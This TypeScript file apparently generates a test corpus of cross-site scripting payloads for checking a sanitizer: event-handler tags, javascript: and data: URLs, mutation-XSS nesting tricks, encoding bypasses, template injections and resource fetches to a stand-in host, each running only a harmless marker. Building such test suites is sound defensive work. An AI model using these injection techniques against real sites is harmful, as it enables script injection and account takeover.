/*
 * Texts that have made other programs run or fetch what nobody asked for, put together from parts: what runs, how it is
 * spelled, and where it stands. Each sets `ownVoiceRan` to its own number if it runs here, or asks a host that is not
 * there for an address with that number.
 */

/** Nobody has this host; a request to it is a fault. */
export const sentinel = 'https://sentinel.example';

/** Makes a text of what is to run, or of an address to be asked for. */
type Make = (run: string, host: string) => string;

const tags: [tag: string, event: string][] = [
	...(['img src=x', 'audio src=x', 'script src=x', 'link rel=stylesheet href=x'] as const).map(
		(tag): [string, string] => [tag, 'onerror']
	),
	...(['svg', 'body', 'iframe', 'style'] as const).map((tag): [string, string] => [tag, 'onload']),
	...(['input', 'select', 'textarea', 'a href=x tabindex=1'] as const).map(
		(tag): [string, string] => [`${tag} autofocus`, 'onfocus']
	),
	['details open', 'ontoggle'],
	['video><source', 'onerror'],
	['object data=x', 'onerror'],
	['marquee', 'onstart'],
	['div style="animation:x 1s"', 'onanimationstart'],
	['svg><animate attributeName=x dur=1s', 'onbegin'],
	['p tabindex=0 autofocus', 'onfocusin'],
	['button', 'onclick'],
	['math', 'onpointerover'],
	['made-up style="content-visibility:auto"', 'oncontentvisibilityautostatechange']
];

/** Every letter as a number, as a page may spell it. */
const inNumbers = (text: string): string =>
	Array.from(text, (sign) => `&#x${(sign.codePointAt(0) ?? 0).toString(16)};`).join('');
const inPercent = (text: string): string =>
	Array.from(text, (sign) => `%${(sign.codePointAt(0) ?? 0).toString(16)}`).join('');

const spellings: ((tag: string, event: string, run: string) => string)[] = [
	(tag, event, run) => `<${tag} ${event}=${run}>`,
	(tag, event, run) => `<${tag.toUpperCase()} ${event.toUpperCase()}="${run}">`,
	(tag, event, run) => `<${tag.replaceAll(' ', '/')}/${event}='${run}'//`,
	(tag, event, run) => `<${tag} ${event}="${inNumbers(run)}"`
];

const handlers: Make[] = tags.flatMap(([tag, event]) =>
	spellings.map(
		(spelled): Make =>
			(run) =>
				spelled(tag, event, run)
	)
);

const addresses: ((run: string) => string)[] = [
	(run) => `javascript:${run}`,
	(run) => `JaVa&Tab;sCrIpT:${run}`,
	(run) => `${inNumbers('javascript:')}${run}`,
	(run) => `\u0001javascript:${inPercent(run)}`,
	(run) => `data:text/html,<script>${run}</script>`,
	(run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`
];

const holders: ((address: string) => string)[] = [
	(address) => `<a href="${address}">a word</a>`,
	(address) => `<iframe src="${address}"></iframe>`,
	(address) => `<form action="${address}"><button autofocus>go</button></form>`,
	(address) => `<object data="${address}"></object>`,
	(address) => `<embed src="${address}">`,
	(address) => `<svg><a xlink:href="${address}"><text y=9>a word</text></a></svg>`,
	(address) => `<meta http-equiv=refresh content="0;url=${address}">`,
	(address) => `[a word](${address})`,
	(address) => `![a picture](${address} "named")`,
	(address) => `<${address}>`
];

const linked: Make[] = holders.flatMap((holder) =>
	addresses.map(
		(address): Make =>
			(run) =>
				holder(address(run))
	)
);

const nests: ((inner: string) => string)[] = [
	(inner) => `<noscript><p title="</noscript>${inner}">`,
	(inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
	(inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
	(inner) => `<svg><style>${inner}</style></svg>`,
	(inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
	(inner) => `<svg></p><desc><title>${inner}</title></desc></svg>`,
	(inner) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><p id="</style>${inner}">`,
	(inner) => `<template>${inner}</template>`,
	(inner) => `<p><template shadowrootmode=open>${inner}</template></p>`,
	(inner) => `<table><td><select><option>${inner}</table>`,
	(inner) => `<iframe srcdoc='${inner}'></iframe>`,
	(inner) => `<xmp><p title="</xmp>${inner}">`,
	(inner) => `<!--><p title="-->${inner}">`,
	(inner) => `<![CDATA[${inner}]]>`,
	(inner) => `<?xml version="1.0"?>${inner}`
];
const breaks = [
	...['textarea', 'title', 'style', 'script', 'main'].map((name) => `</${name}>`),
	...['-->', ']]>', '">', "'>", '`>', '\u2028', '%3C/p%3E', '\\u003c/p\\u003e']
];
const inner: Make[] = [(run) => `<script>${run}</script>`, (run) => `<img src=x onerror=${run}>`];
const nested: Make[] = inner.flatMap((made) => [
	...nests.map(
		(nest): Make =>
			(run, host) =>
				nest(made(run, host))
	),
	...breaks.map(
		(begin): Make =>
			(run, host) =>
				begin + made(run, host)
	)
]);

const otherLetters: Make[] = [
	(run) => `&lt;script&gt;${run}&lt;/script&gt;`,
	(run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
	(run) => `＜script＞${run}＜/script＞`,
	(run) => `<ſcript>${run}</ſcript>`,
	(run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
	(run) => inPercent(`<script>${run}</script>`),
	(run) => `<scr<script>ipt>${run}</scr</script>ipt>`
];

const templates: Make[] = [
	(run) => `{{constructor.constructor("${run}")()}}`,
	(run) => `{@html "<img src=x onerror=${run}>"}`,
	(run) => `\${${run}}`,
	(run) => `<%= ${run} %> #{${run}}`,
	(run) => `<p style="width:expression(${run});behavior:url(#x)">`,
	(run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
	(run) => `<script type=importmap>{"imports":{"x":"data:text/javascript,${run}"}}</script>`
];

const asking: Make[] = [
	...[
		'img src',
		'img srcset',
		'video poster',
		'audio src',
		'iframe src',
		'script src',
		'embed src'
	],
	...['object data', 'input type=image src', 'svg><image href', 'svg><use href', 'body background'],
	...['link rel=stylesheet href', 'link rel=prefetch href', 'link rel=preconnect href'],
	...['link rel=dns-prefetch href', 'link rel=manifest href', 'link rel=icon href', 'base href'],
	...['meta http-equiv=refresh content="0;url=x" data-x', 'a autofocus ping']
].map(
	(begin): Make =>
		(_, host) =>
			`<${begin}="${host}">`
);
const askingByStyle: Make[] = [
	(_, host) => `<style>@import url(${host});</style>`,
	(_, host) => `<p style="background:url(${host})">`,
	(_, host) => `<style>@font-face{font-family:x;src:url(${host})}*{font-family:x}</style>`,
	(_, host) => `![](${host})`,
	(_, host) => `![a picture][1] [1]: ${host}`,
	(_, host) => `![[${host}]]`,
	(_, host) => `<script type=speculationrules>{"prefetch":[{"urls":["${host}"]}]}</script>`
];

const makes = [
	...[handlers, linked, nested, otherLetters, templates, asking, askingByStyle].flat()
];

/** Every payload, a line each, all of them different. */
export const payloads: readonly string[] = makes.map((make, index) =>
	make(`top.ownVoiceRan=${index + 1}`, `${sentinel}/${index + 1}`)
);
